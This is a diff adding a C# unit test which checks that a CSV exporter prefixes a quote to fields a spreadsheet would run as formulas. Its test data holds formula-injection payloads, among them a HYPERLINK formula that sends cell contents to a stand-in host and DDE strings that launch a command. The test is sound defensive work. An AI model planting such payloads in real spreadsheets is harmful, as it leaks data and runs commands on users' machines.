@@ -134,6 +134,29 @@ public sealed class CsvTests(SharedApp app)
         Assert.Equal("day", row["precision"]);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("\t=1+1", "'\t=1+1")]
+    [InlineData("\r=1+1", "'\r=1+1")]
+    [InlineData("-12.5", "-12.5")] // a negative number stays a number
+    [InlineData("-40", "-40")]
+    [InlineData("a = b", "a = b")] // only the first character counts
+    [InlineData("2025-08-29", "2025-08-29")]
+    public void A_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(string field, string read)
+    {
+        var item = new TimelineItem("hostile", PartialDate.Parse("2025-08-29"), field, "标题", field, ClaimStatus.Reported, field, 3, [], [], []);
+
+        var row = Assert.Single(ReadRows(EventCsv.Write([item], slug => "https://tracker.test/events/" + slug)));
+
+        Assert.Equal(read, row["title_en"]);
+        Assert.Equal(read, row["summary_en"]);
+        Assert.Equal(read, row["status_note"]);
+        Assert.Equal("hostile", row["slug"]);
+    }
+
     /// <summary>More events than one service page holds: the export still returns them all, in order.</summary>
     [Fact]
     public async Task Every_event_is_exported_when_there_are_more_than_a_page()
